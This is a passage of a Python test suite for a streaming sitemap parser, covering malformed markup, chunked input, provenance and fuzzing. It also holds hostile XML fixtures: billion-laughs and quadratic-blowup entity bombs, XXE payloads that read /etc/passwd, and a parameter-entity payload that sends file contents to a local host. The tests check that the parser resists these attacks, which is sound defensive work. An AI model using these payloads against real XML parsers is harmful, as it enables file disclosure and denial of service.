            b"<item><link>https://x.com/c</link></item></channel></rss>",
            id="rss-link",
        ),
        pytest.param(
            b'<feed><entry><link href="https://x.com/q?a=1&b=2"/></entry>'
            b'<entry><link href="https://x.com/c"/></entry></feed>',
            id="atom-href",
        ),
    ],
)
def test_bare_ampersand_in_url_is_kept(data: bytes) -> None:
    r = parse_all(data)
    assert r.urls == ["https://x.com/q?a=1&b=2", "https://x.com/c"]


def test_bare_ampersand_does_not_stall_streaming() -> None:
    data = urlset(url_el("https://x.com/q?a=1&b=2") + many_urls(5000))
    p = SitemapParser(DOC)
    before_close = 0
    for i in range(0, len(data), 16384):
        p.feed(data[i : i + 16384])
        before_close += len(p.take()[0])
    p.close()
    assert before_close + len(p.take()[0]) == 5001
    assert before_close >= 4900


def test_undefined_entity_in_loc_does_not_invent_a_url() -> None:
    r = parse_all(urlset(url_el("https://x.com/caf&eacute;s") + url_el("https://x.com/ok")))
    assert "https://x.com/caf" not in r.urls
    assert "https://x.com/ok" in r.urls
    # Either kept literally or recorded as malformed with its raw value: never silently cut.
    assert "https://x.com/caf&eacute;s" in r.urls or any("&eacute;" in m.raw for m in r.malformed)


def test_two_concatenated_urlsets() -> None:
    r = parse_all(
        b"<urlset><url><loc>https://x.com/a</loc></url></urlset>"
        b"<urlset><url><loc>https://x.com/b</loc></url></urlset>"
    )
    assert r.urls == ["https://x.com/a", "https://x.com/b"]
    assert r.errors


def test_invalid_utf8_keeps_neighbours() -> None:
    r = parse_all(
        b"<urlset><url><loc>https://x.com/a</loc></url><url><loc>https://x.com/\xff\xfeb</loc>"
        b"</url><url><loc>https://x.com/c</loc></url></urlset>"
    )
    assert r.urls[0] == "https://x.com/a" and r.urls[-1] == "https://x.com/c"
    assert r.errors


def test_unterminated_comment_keeps_entries_before() -> None:
    r = parse_all(urlset(url_el("https://x.com/a") + "<!-- oops " + url_el("https://x.com/b")))
    assert r.urls[0] == "https://x.com/a"  # (b is inside the comment: salvaging it is optional)
    assert r.errors


def test_salvage_after_an_attribute_value_left_open() -> None:
    """`<` cannot appear in an attribute value: one left open is damage that ends at the next
    `<`, and the items after it come out as they arrive, not only when the document closes."""
    body = (
        url_el("https://x.com/a")
        + '<url bad="><loc>https://x.com/b</loc></url>'
        + url_el("https://x.com/c")
    )
    r = parse_all(urlset(body))
    assert r.urls[0] == "https://x.com/a"
    assert "https://x.com/c" in r.urls
    assert len(r.urls) == len(set(r.urls))
    assert r.errors
    parser = SitemapParser(DOC)
    parser.feed(urlset(body))
    assert "https://x.com/c" in [e.url for e in parser.take()[0]]  # before close()


# --------------------------------------------------------------------------- sniffing and prolog

PAD_COMMENTS = "".join(
    f"<!-- generated by a very chatty CMS plugin, line {i} -->\n" for i in range(40)
)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(
            ('<?xml version="1.0"?>\n' + PAD_COMMENTS).encode()
            + b"<urlset><url><loc>https://x.com/a</loc></url></urlset>",
            id="long-comment-prolog",
        ),
        pytest.param(
            b'<?xml version="1.0"?><!DOCTYPE urlset ['
            + b"<!-- pad -->" * 100
            + b"]>\n"
            + b"<!-- c -->\n" * 20
            + b"<urlset><url><loc>https://x.com/a</loc></url></urlset>",
            id="doctype-then-comments",
        ),
        pytest.param(
            PAD_COMMENTS.encode()
            + f'<sm:urlset xmlns:sm="{SM_NS}"><sm:url><sm:loc>https://x.com/a</sm:loc>'
            "</sm:url></sm:urlset>".encode(),
            id="prefixed-root-after-long-prolog",
        ),
    ],
)
def test_long_prolog_is_chunk_invariant(data: bytes) -> None:
    """Past the 1 KiB sniffing window a chunk may end in '<', '<!-', '<!DOCT' or '<sm:'."""
    r = parse_all(data)
    assert r.kind == "urlset"
    assert r.urls == ["https://x.com/a"]
    assert sum("DOCTYPE" in n for n in r.notes) <= 1


def test_long_prolog_trickled_in_small_chunks_is_linear() -> None:
    data = (
        b'<?xml version="1.0"?><!DOCTYPE urlset [' + b"<!-- pad -->" * 40_000 + b"]>"
        b"<urlset><url><loc>https://x.com/a</loc></url></urlset>"
    )
    p = SitemapParser(DOC)
    start = time.perf_counter()
    for i in range(0, len(data), 64):
        p.feed(data[i : i + 64])
        assert time.perf_counter() - start < 1.0, f"still sniffing after {i} bytes"
    p.close()
    assert p.kind == "urlset"
    assert [e.url for e in p.take()[0]] == ["https://x.com/a"]


def test_doctype_is_ignored_with_a_note() -> None:
    r = parse_all(
        b'<?xml version="1.0"?><!DOCTYPE urlset PUBLIC "-//x//DTD//EN" "urlset.dtd">'
        b"<urlset><url><loc>https://x.com/a</loc></url></urlset>"
    )
    assert r.urls == ["https://x.com/a"]
    assert r.notes == ["DOCTYPE declaration ignored (sitemaps never need one)"]


# --------------------------------------------------------------------------- security (§4)

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE urlset [\n<!ENTITY lol "lol">\n'
    + b"".join(
        b'<!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>\n<urlset>"
    + b"<url><loc>https://x.com/a</loc></url>"
    + b"<url><loc>https://x.com/&lol9;</loc></url>"
    + b"<url><loc>https://x.com/c</loc><lastmod>&lol9;</lastmod></url>"
    + b"</urlset>"
)


def quadratic_blowup(entity_size: int, refs: int) -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY a "'
        + b"x" * entity_size
        + b'">]><urlset><url><loc>https://x.com/a</loc></url><url><loc>https://x.com/'
        + b"&a;" * refs
        + b"</loc></url><url><loc>https://x.com/c</loc></url></urlset>"
    )


# Small, since parse_all also feeds it byte by byte; the large variant is
# test_quadratic_blowup_large_entity.
QUADRATIC_BLOWUP = quadratic_blowup(900, 10_000)  # 9 MB if expanded

XXE_FILE = (
    b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    b'<urlset xmlns:xhtml="http://www.w3.org/1999/xhtml"><url><loc>https://x.com/a</loc></url>'
    b"<url><loc>https://x.com/&e;</loc></url>"
    b'<url><loc>https://x.com/b</loc><xhtml:link rel="alternate" hreflang="de" href="&e;"/>'
    b"</url><url><loc>&e;</loc></url><url><loc>https://x.com/c</loc></url></urlset>"
)

EXTERNAL_DTD = (
    b'<?xml version="1.0"?><!DOCTYPE urlset SYSTEM "http://127.0.0.1:9/x.dtd">'
    b"<urlset><url><loc>https://x.com/a</loc></url><url><loc>https://x.com/c</loc></url>"
    b"</urlset>"
)

PARAMETER_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE urlset [\n'
    b'<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;\n'
    b'<!ENTITY % file SYSTEM "file:///etc/passwd">\n'
    b"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?x=%file;'>\">\n"
    b"%eval; %exfil;\n]>"
    b"<urlset><url><loc>https://x.com/a</loc></url><url><loc>https://x.com/c</loc></url>"
    b"</urlset>"
)


SECURITY = [
    pytest.param(BILLION_LAUGHS, id="billion-laughs"),
    pytest.param(QUADRATIC_BLOWUP, id="quadratic-blowup"),
    pytest.param(XXE_FILE, id="external-entity-file"),
    pytest.param(EXTERNAL_DTD, id="external-dtd"),
    pytest.param(PARAMETER_ENTITY, id="parameter-entity"),
]


def all_strings(r: Result) -> list[str]:
    out = [*r.sitemaps, *r.notes, *r.errors]
    for e in r.entries:
        out += [e.url, e.lastmod or "", *(a.url for a in e.alternates), *(i.loc for i in e.images)]
    out += [m.raw for m in r.malformed]
    return out


@pytest.mark.parametrize("data", SECURITY)
def test_hostile_documents(data: bytes) -> None:
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.perf_counter()
    r = parse_all(data)  # whole and in 1/7/64-byte chunks
    elapsed = time.perf_counter() - start
    assert elapsed < 5.0
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before
    assert grown_kib < 100 * 1024, "entity expansion reached memory"
    assert r.kind == "urlset"
    assert r.urls[0] == "https://x.com/a" and r.urls[-1] == "https://x.com/c"
    strings = all_strings(r)
    # No expansion: nothing grows beyond the document itself, no entity value shows up.
    assert all(len(s) <= len(data) for s in strings)
    assert not any("lollol" in s or "x" * 100 in s for s in strings), "an entity was expanded"
    assert not any("root:" in s for s in strings), "file content leaked"
    # The hostile part is visible in the report (§4: recorded, the walk goes on).
    assert r.errors or any("DOCTYPE" in n for n in r.notes)


def test_quadratic_blowup_large_entity() -> None:
    data = quadratic_blowup(50_000, 5_000)  # 250 MB if expanded
    start = time.perf_counter()
    for r in (parse_whole(data), parse_chunked(data, 64 * 1024)):
        assert r.kind == "urlset"
        assert r.urls[0] == "https://x.com/a" and r.urls[-1] == "https://x.com/c"
        assert not any("x" * 100 in s or len(s) > len(data) for s in all_strings(r))
    assert time.perf_counter() - start < 5.0


DOCTYPE_CONFUSION = [
    pytest.param(
        b'<!DOCTYPE urlset [<!ENTITY x "]>"><!ENTITY e SYSTEM "file:///etc/passwd">]>',
        id="bracket-in-entity-value",
    ),
    pytest.param(
        b'<!DOCTYPE urlset SYSTEM "a>b" [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        id="gt-in-system-literal",
    ),
    pytest.param(
        b'<!DOCTYPE urlset [<!-- ]> --><!ENTITY e SYSTEM "file:///etc/passwd">]>',
        id="bracket-in-comment",
    ),
    pytest.param(b'<!doctype urlset [<!ENTITY e SYSTEM "file:///etc/passwd">]>', id="lowercase"),
]


@pytest.mark.parametrize("doctype", DOCTYPE_CONFUSION)
def test_doctype_confusion_never_declares_entities(doctype: bytes) -> None:
    """A DOCTYPE the stripper mis-measures must still never reach libxml2 as a DTD: the
    document is either parsed without the entity or refused as not-a-sitemap."""
    data = (
        b'<?xml version="1.0"?>' + doctype + b"<urlset><url><loc>https://x.com/a</loc></url>"
        b"<url><loc>https://x.com/&e;</loc></url><url><loc>https://x.com/c</loc></url></urlset>"
    )
    r = parse_all(data)
    assert r.kind in ("urlset", "not-a-sitemap")
    assert not any("root:" in s for s in all_strings(r))
    if r.kind == "urlset":
        assert "https://x.com/a" in r.urls and "https://x.com/c" in r.urls
    else:
        assert r.notes


@pytest.mark.parametrize("data", [BILLION_LAUGHS, XXE_FILE], ids=["billion-laughs", "xxe"])
def test_entity_reference_does_not_fabricate_home_page(data: bytes) -> None:
    r = parse_all(data)
    assert "https://x.com/" not in r.urls


# --------------------------------------------------------------------------- provenance (§1)

PROVENANCE = [
    pytest.param(urlset(url_el("https://x.com/a") + url_el("/b")), id="urlset"),
    pytest.param(RSS, id="rss"),
    pytest.param(ATOM, id="atom"),
    pytest.param(b"https://x.com/a\nhttps://x.com/b\n", id="text"),
    pytest.param(
        urlset(url_el("https://x.com/a") + "</urlset>" + url_el("https://x.com/c")), id="salvaged"
    ),
]


@pytest.mark.parametrize("data", PROVENANCE)
@pytest.mark.parametrize("depth", [1, 3])
def test_depth_and_sitemap_stamped_on_every_entry(data: bytes, depth: int) -> None:
    url = "https://x.com/deep/child-7.xml"
    r = parse_whole(data, url=url, depth=depth)
    assert r.entries
    assert {(e.sitemap, e.depth) for e in r.entries} == {(url, depth)}
    assert all(m.sitemap == url for m in r.malformed)
    chunked = parse_chunked(data, 7, url=url, depth=depth)
    assert chunked.entries
    assert {(e.sitemap, e.depth) for e in chunked.entries} == {(url, depth)}


# --------------------------------------------------------------------------- streaming (§3, §5)


def test_50k_urlset_streams_in_64k_chunks() -> None:
    n = 50_000
    data = urlset(
        "".join(
            f"<url><loc>https://x.com/page/{i}</loc><lastmod>2024-05-01</lastmod>"
            "<priority>0.5</priority></url>\n"
            for i in range(n)
        )
    )
    p = SitemapParser(DOC)
    seen: list[str] = []
    before_close = 0
    batches = 0
    for i in range(0, len(data), 64 * 1024):
        p.feed(data[i : i + 64 * 1024])
        entries, sitemaps, malformed = p.take()
        assert sitemaps == [] and malformed == []
        if entries:
            batches += 1
        seen += [e.url for e in entries]
        if i == 0:
            assert entries, "entries must be available after the first chunk"
    before_close = len(seen)
    p.close()
    seen += [e.url for e in p.take()[0]]
    assert len(seen) == n
    assert seen[0] == "https://x.com/page/0" and seen[-1] == f"https://x.com/page/{n - 1}"
    assert len(set(seen)) == n
    assert before_close >= n - 100  # all but the tail arrived before close()
    assert batches > 10
    assert p.take() == ([], [], [])  # drained
    assert p.entries == []


def test_take_drains_and_close_is_idempotent() -> None:
    p = SitemapParser(DOC)
    p.feed(urlset(url_el("https://x.com/a")))
    p.close()
    assert [e.url for e in p.take()[0]] == ["https://x.com/a"]
    assert p.take() == ([], [], [])
    p.feed(urlset(url_el("https://x.com/late")))  # after close: ignored
    p.close()
    assert p.take() == ([], [], [])
    assert p.kind == "urlset"


def test_kind_known_early_for_a_long_document() -> None:
    p = SitemapParser(DOC)
    p.feed(urlset(many_urls(100))[:4000])
    assert p.kind == "urlset"
    assert p.take()[0]


# --------------------------------------------------------------------------- properties

SEGMENT = st.text(alphabet=string.ascii_letters + string.digits + "-_~", min_size=1, max_size=10)


@st.composite
def url_entries(draw: st.DrawFn) -> tuple[str, str, str | None, float | None]:
    """(loc markup, expected URL, lastmod, priority) of one well-formed <url>."""
    path = "/".join(draw(st.lists(SEGMENT, min_size=0, max_size=3)))
    query = draw(st.sampled_from(["", "?a=1", "?a=1&b=2"]))
    url = f"https://x.com/{path}{query}"
    style = draw(st.sampled_from(["plain", "cdata", "spaced", "relative"]))
    if style == "cdata":
        loc = f"<![CDATA[{url}]]>"
    else:
        escaped = url.replace("&", "&amp;")
        loc = {
            "plain": escaped,
            "spaced": f"\n   {escaped}\n ",
            "relative": escaped[len("https://x.com") :],
        }[style]
    lastmod = draw(st.sampled_from([None, "2024", "2024-05-01", "2024-05-01T10:00:00+00:00"]))
    priority = draw(st.sampled_from([None, 0.0, 0.5, 1.0]))
    return loc, url, lastmod, priority


def render(entries: list[tuple[str, str, str | None, float | None]], prefix: str) -> bytes:
    sm = f"{prefix}:" if prefix else ""
    body = []
    for loc, _url, lastmod, priority in entries:
        parts = [f"<{sm}loc>{loc}</{sm}loc>"]
        if lastmod is not None:
            parts.append(f"<{sm}lastmod>{lastmod}</{sm}lastmod>")
        if priority is not None:
            parts.append(f"<{sm}priority>{priority}</{sm}priority>")
        body.append(f"<{sm}url><!-- x -->{''.join(parts)}</{sm}url>\n")
    xmlns = f'xmlns:{prefix}="{SM_NS}"' if prefix else f'xmlns="{SM_NS}"'
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<{sm}urlset {xmlns}>\n'
        + "".join(body)
        + f"</{sm}urlset>\n"
    ).encode()


@PROPERTY
@given(
    entries=st.lists(url_entries(), max_size=40),
    prefix=st.sampled_from(["", "sm"]),
    sizes=st.lists(st.integers(1, 300), min_size=1, max_size=8),
)
def test_wellformed_urlsets_any_chunking(
    entries: list[tuple[str, str, str | None, float | None]], prefix: str, sizes: list[int]
) -> None:
    data = render(entries, prefix)
    whole = parse_whole(data, url="https://x.com/")
    assert whole.kind == "urlset" and whole.errors == [] and whole.malformed == []
    assert whole.urls == [url for _loc, url, _lm, _p in entries]
    assert [e.lastmod for e in whole.entries] == [lm for *_, lm, _p in entries]
    assert [e.priority for e in whole.entries] == [p for *_, p in entries]
    assert_same(whole, parse_chunked(data, sizes, url="https://x.com/"), f"chunks {sizes}")


@PROPERTY
@given(
    lines=st.lists(
        st.one_of(
            SEGMENT.map(lambda s: f"https://x.com/{s}"),
            st.sampled_from(["", "   ", "not a url", "/rel"]),
        ),
        max_size=30,
    ),
    newline=st.sampled_from(["\n", "\r\n"]),
    sizes=st.lists(st.integers(1, 50), min_size=1, max_size=5),
)
def test_text_sitemaps_any_chunking(lines: list[str], newline: str, sizes: list[int]) -> None:
    data = ("https://x.com/first" + newline + newline.join(lines)).encode()
    whole = parse_whole(data)
    assert whole.kind == "text"
    assert whole.urls == ["https://x.com/first", *(x for x in lines if x.startswith("https"))]
    assert [m.raw for m in whole.malformed] == [x for x in lines if x.strip() and x[0] != "h"]
    assert_same(whole, parse_chunked(data, sizes), f"chunks {sizes}")


def _check_never_raises(data: bytes, sizes: list[int]) -> SitemapParser:
    p = SitemapParser(DOC)
    pos = k = 0
    while pos < len(data):
        size = sizes[k % len(sizes)]
        p.feed(data[pos : pos + size])
        pos, k = pos + size, k + 1
        p.take()
    p.close()
    entries, _sitemaps, _malformed = p.take()
    assert p.kind in KINDS
    assert p.is_sitemap == (p.kind != "not-a-sitemap")
    assert all(re.match(r"https?://", e.url) for e in entries)
    return p


@PROPERTY
@given(data=st.binary(max_size=3000), sizes=st.lists(st.integers(1, 256), min_size=1, max_size=6))
def test_arbitrary_bytes_never_raise(data: bytes, sizes: list[int]) -> None:
    p = parse_document(data, DOC)
    assert p.kind in KINDS
    assert all(re.match(r"https?://", e.url) for e in p.entries)
    _check_never_raises(data, sizes)


PREFIXES = [
    b"<urlset>",
    b'\xef\xbb\xbf<?xml version="1.0"?>\n<urlset xmlns="' + SM_NS.encode() + b'"><url><loc>',
    b"<sitemapindex><sitemap><loc>",
    b"<rss><channel><item><link>",
    b"<feed><entry><link href=",
    b"<!DOCTYPE urlset [<!ENTITY ",
    b"https://x.com/a\n",
]


@PROPERTY
@given(
    prefix=st.sampled_from(PREFIXES),
    data=st.binary(max_size=2000),
    sizes=st.lists(st.integers(1, 128), min_size=1, max_size=8),
)
def test_arbitrary_bytes_after_a_sitemap_prefix_never_raise(
    prefix: bytes, data: bytes, sizes: list[int]
) -> None:
    p = _check_never_raises(prefix + data, sizes)
    if prefix == b"<urlset>":
        assert p.kind == "urlset"


@PROPERTY
@given(
    data=st.lists(
        st.sampled_from(
            [
                b"<url>",
                b"</url>",
                b"<loc>",
                b"</loc>",
                b"https://x.com/a",
                b"&",
                b"&amp;",
                b"<![CDATA[",
                b"]]>",
                b"<!--",
                b"-->",
                b"<",
                b">",
                b"\xff",
                b"\x00",
                b"</urlset>",
                b"<image:loc>",
                b"&e;",
                b" ",
            ]
        ),
        max_size=60,
    ).map(b"".join),
    sizes=st.lists(st.integers(1, 64), min_size=1, max_size=6),
)
def test_markup_soup_never_raises(data: bytes, sizes: list[int]) -> None:
    p = _check_never_raises(b"<urlset>" + data, sizes)
    assert p.kind == "urlset"
